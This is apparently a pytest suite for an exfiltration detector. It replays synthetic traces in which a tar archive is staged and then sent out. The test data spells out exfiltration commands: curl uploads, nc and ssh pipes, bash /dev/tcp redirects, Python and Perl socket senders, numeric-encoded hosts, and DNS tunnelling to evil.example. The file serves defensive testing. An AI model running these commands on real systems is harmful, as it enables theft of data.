"""Class 11 of issue 11: the designed-in weak spots, closed as far as the telemetry allows. Each
is played after a real-looking archive, in Tetragon and at least one other format, through
`detect`, and must reach medium or above (high where an upload tool names the archive)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.adversarial.trace import FORMATS, PUBLIC, Trace, detect, exfil
from tidewaiter.alerts import alert_container

ALL = (*FORMATS, "auditd")


def staged() -> Trace:
    trace = Trace()
    tar = trace.run(0, "tar", "czf", "/tmp/a.tgz", "/srv/data")
    trace.write_file(0.5, tar, "/tmp/a.tgz")
    return trace


def severity(capsys: pytest.CaptureFixture[str], path: Path, only_exfil: bool = True) -> int:
    """The highest severity of the findings (exfiltration ones only, by default)."""
    alerts = detect(capsys, str(path))
    alerts = exfil(alerts) if only_exfil else alerts
    assert alerts, "no finding"
    return max(int(a["severity_id"]) for a in alerts)  # type: ignore[call-overload]


@pytest.mark.parametrize("fmt", ALL)
@pytest.mark.parametrize("later", [16 * 60, 26 * 3600, 6 * 86_400])
def test_an_upload_later_that_names_the_archive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, later: int
) -> None:
    # Sixteen minutes, past the staging window; a day and two hours, past the named window the
    # attacker could read until this stop (a day); six days, inside the week it is now.
    trace = staged()
    curl = trace.run(later, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
    trace.send(later + 0.2, curl, PUBLIC, 5_000_000)
    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4


@pytest.mark.parametrize("fmt", ALL)
@pytest.mark.parametrize(
    "pipeline",
    [
        f"cat /tmp/a.tgz | curl -T - https://{PUBLIC}/",
        f"dd if=/tmp/a.tgz bs=1M | nc {PUBLIC} 443",
        f"pv -q /tmp/a.tgz | ssh u@{PUBLIC} 'cat > a'",
    ],
)
def test_an_upload_later_fed_by_a_reader_of_the_archive_names_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, pipeline: str
) -> None:
    # Half an hour later, past the staging window: the uploader reads stdin, and the reader
    # piping into it names the archive.
    trace = staged()
    trace.run(1800, "/bin/sh", "-c", pipeline)
    uploader = trace.run(1800.1, *pipeline.split("| ", 1)[1].split(" ")[:3])
    trace.send(1800.3, uploader, PUBLIC, 5_000_000)
    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4


@pytest.mark.parametrize("fmt", ALL)
@pytest.mark.parametrize(
    ("argv", "least"),
    [
        (("/bin/bash", "-c", f"cat /tmp/a.tgz > /dev/tcp/{PUBLIC}/443"), 4),
        (("/bin/bash", "-c", f"exec 3<>/dev/tcp/{PUBLIC}/443; cat /tmp/a.tgz >&3"), 4),
        (
            (
                "/usr/bin/python3",
                "-c",
                f"import socket;s=socket.create_connection(('{PUBLIC}',443));"
                "s.sendfile(open('/tmp/a.tgz','rb'))",
            ),
            4,
        ),
        (
            (
                "/usr/bin/perl",
                "-MIO::Socket",
                "-e",
                f'$s=IO::Socket::INET->new(PeerAddr=>"{PUBLIC}:443");print $s `cat /tmp/a.tgz`',
            ),
            4,
        ),
    ],
    ids=["dev-tcp", "dev-tcp-fd", "python-socket", "perl-socket"],
)
def test_senders_that_are_not_upload_tools(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, argv: tuple[str, ...], least: int
) -> None:
    trace = staged()
    sender = trace.run(30, *argv)
    trace.send(30.2, sender, PUBLIC, 5_000_000)
    assert severity(capsys, trace.write(tmp_path, fmt)) >= least


@pytest.mark.parametrize("fmt", ALL)
@pytest.mark.parametrize(
    ("host", "least"),
    # inet_aton forms are addresses to curl: the outside. A short name could resolve anywhere
    # (/etc/hosts): without connection telemetry it is unverified, so medium, not low.
    [("3405803853", 4), ("0xcb00714d", 4), ("0313.0.0161.0115", 4), ("drop", 3)],
    ids=["decimal", "hex", "octal", "dotless"],
)
def test_odd_hosts_in_a_url_without_network_telemetry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, host: str, least: int
) -> None:
    trace = staged()
    trace.run(30, "curl", "-T", "/tmp/a.tgz", f"http://{host}/")  # no connection records
    assert severity(capsys, trace.write(tmp_path, fmt), only_exfil=host != "drop") >= least


@pytest.mark.parametrize("fmt", ALL)
def test_curl_reading_its_options_from_a_file_without_network_telemetry(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    # The config file names the file and the destination; the telemetry shows neither.
    trace = staged()
    trace.run(30, "curl", "-K", "/tmp/.c")
    assert severity(capsys, trace.write(tmp_path, fmt)) >= 3


@pytest.mark.parametrize("fmt", ALL)
@pytest.mark.parametrize("tool", ["dig", "nslookup", "host"])
def test_dns_exfiltration_after_an_archive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, tool: str
) -> None:
    # `xxd -p /tmp/a.tgz | while read c; do dig $c.x.evil.example; done`: one query a chunk.
    trace = staged()
    for n in range(20):
        chunk = f"{n:04x}" + "1f8b0800a3c52d6600ff" * 3
        trace.run(30 + n * 0.2, tool, f"{chunk}.x.evil.example")
    assert severity(capsys, trace.write(tmp_path, fmt)) >= 4
    # One such query is medium: a lookup, not yet a channel.
    single = staged()
    single.run(30, tool, "0000" + "1f8b0800a3c52d6600ff" * 3 + ".x.evil.example")
    assert severity(capsys, single.write(tmp_path, fmt, "single")) == 3


@pytest.mark.parametrize("fmt", FORMATS)
def test_ordinary_lookups_after_an_archive_are_not_a_channel(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    trace = staged()
    for n, name in enumerate(["api.github.com", "registry-1.docker.io", "_dmarc.example.com"]):
        trace.run(30 + n, "dig", name)
    assert exfil(detect(capsys, str(trace.write(tmp_path, fmt)))) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_archive_in_one_container_uploaded_from_another_on_a_shared_volume(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    maker = Trace(container="aa" * 32, ip="10.42.0.7")
    tar = maker.run(0, "tar", "czf", "/shared/a.tgz", "/srv/data")
    maker.write_file(0.5, tar, "/shared/a.tgz")
    sender = Trace(container="bb" * 32, ip="10.42.0.8")  # mounts the same volume at /data
    curl = sender.run(60, "curl", "-T", "/data/a.tgz", f"https://{PUBLIC}/")
    sender.send(60.2, curl, PUBLIC, 5_000_000)
    paths = [maker.write(tmp_path, fmt, "maker"), sender.write(tmp_path, fmt, "sender")]
    [alert] = exfil(detect(capsys, *map(str, paths)))
    assert alert["severity_id"] >= 4
    assert alert_container(alert)["uid"].startswith("bbbbbbbbbbbb")  # the sender's
    assert "made in container" in str(alert)
